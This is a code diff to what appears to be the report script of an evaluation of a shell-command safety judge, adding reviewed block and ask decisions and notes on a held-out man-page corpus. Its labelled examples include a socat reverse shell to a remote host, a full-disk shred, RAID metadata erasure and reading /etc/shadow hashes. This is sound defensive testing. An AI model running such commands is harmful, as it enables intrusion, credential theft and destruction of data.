@@ -142,6 +142,7 @@ REVIEWED = {
     "vendor-mutate-unbounded": "correct by policy: `--force` bypass (drain evicts unmanaged pods, replace deletes)",
     "admin-grant": "correct: binds the cluster-admin role to users and groups",
     "raid-change": "correct: erases the RAID metadata of a member disk (the array is lost)",
+    "read-shadow": "correct: prints the password hashes of /etc/shadow",
 }
 # Blocked lines of the everyday corpus, reviewed one by one (the rule's review above stands for the rest).
 REVIEWED_LINES = {
@@ -151,6 +152,8 @@ REVIEWED_LINES = {
     "shred -n 5 -vz /dev/sda": "correct: overwrites the whole first disk",
     "mdadm --zero-superblock /dev/sd${D}${P}": "correct: erases the RAID metadata of a member disk (the array is lost)",
     "socat exec:'bash -i',pty,stderr tcp:remote.butzel.info:3180": "correct: a reverse shell to a remote host",
+    "cargo yank foo@1.0.7": "correct by policy: withdraws a published version from new resolutions (the brief "
+    "corpora label yanks block; `cargo yank --undo` restores it)",
 }
 
 # Measured with the same judge on the tree before issue 16 (commit b818e74); kept as constants because that
@@ -232,6 +235,11 @@ ASK_REVIEWS = {
     "api-change": "right: a POST that changes a remote service (an issue comment, an upload form)",
     "unknown-cli-destroy": "right: a revoke/delete verb of an uncatalogued CLI (`adb shell pm revoke` on a device)",
     "restore-overwrite": "right: `pg_restore --clean` drops the live objects before restoring over them",
+    # reviewed in round 9 (the held-out corpus)
+    "history-rewrite": "right: `git lfs migrate import|export` rewrites every listed ref's history",
+    "account-change": "right: `htpasswd` writes a web server's password file outside the workspace",
+    "cargo-publish": "right: publishes a crate",
+    "workspace-code-trusted": "right: `direnv allow` lets the folder's .envrc run in every later shell",
 }
 REDTEAM_ROUND3 = {"caught": 251, "strict": 251}
 BRIEF_ROUND3 = {"caught": 626, "strict": 548}
@@ -648,6 +656,16 @@ def everyday_section() -> tuple[list[str], list[str]]:
         "change no file; `gh repo sync` with no destination repository fast-forwards this checkout; image-tool",
         "switches (`skopeo sync --scoped`) take no value; `/proc/self/fd/N` is `/dev/fd/N`. What still asks is",
         "consequential (reviewed per rule below): the man-page rate measures the vendor policy.",
+        f"Round 9 (from {ROUND9_COMMIT}) adds a held-out third corpus (`shell_everyday_docs.tsv`: man-page",
+        "examples and Markdown code blocks of 53 Debian packages the others do not hold: git-extras, sqlite-utils,",
+        "cargo, timewarrior, hub, git-lfs, sudo, unzip, age ...), measured before any rule changed: ask 5.50%,",
+        "block 0.65%. The review of the other two found one class (scp's options after `gh codespace cp --` read",
+        "as sources); after it the held-out corpus measured the same, 42 asks and 5 blocks (the unbiased AFTER).",
+        "Its own review then fixed three classes, so its rate below is biased: hub hands every command it does",
+        "not own to git (`hub am URL`, `hub merge PR-URL`, `hub push` are judged as git; `hub compare`, `gist",
+        "show`, GET `hub api` read), `git lfs migrate info` reports and `import --no-rewrite` adds a commit, and",
+        "`id_` names are SSH keys only when named as OpenSSH names keys (`id_` + a key type, any name in",
+        "~/.ssh, `id_*` globs), not `--output id_as_a_float`.",
         "",
         *table,
         "",
